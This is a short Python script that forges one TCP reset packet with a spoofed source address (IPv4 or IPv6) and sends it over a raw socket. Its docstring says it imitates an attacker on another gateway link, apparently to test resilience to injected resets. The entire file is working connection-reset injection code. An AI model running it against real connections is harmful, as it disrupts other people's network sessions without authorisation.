"""One TCP RST with a made-up sender, as an attacker on another link of the gateway would send it.

argv: device, MAC of the receiver, source, destination, source port, destination port, sequence number, TTL
"""

import ipaddress
import socket
import struct
import sys

device, mac, source, destination, sport, dport, sequence, ttl = sys.argv[1:]
src, dst = ipaddress.ip_address(source), ipaddress.ip_address(destination)


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(check):
    """RFC 9293 section 3.1: five words, RST."""
    return struct.pack("!HHIIBBHHH", int(sport), int(dport), int(sequence), 0, 5 << 4, 0x04, 0, check, 0)


if src.version == 4:
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, 20)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, int(ttl), 6, 0, src.packed, dst.packed)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
else:
    pseudo = src.packed + dst.packed + struct.pack("!IHBB", 20, 0, 0, 6)
    header = struct.pack("!IHBB16s16s", 6 << 28, 20, 6, int(ttl), src.packed, dst.packed)

packet = header + segment(checksum(pseudo + segment(0)))
protocol = 0x0800 if src.version == 4 else 0x86DD
with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as raw:
    raw.sendto(packet, (device, protocol, 0, 0, bytes.fromhex(mac.replace(":", ""))))
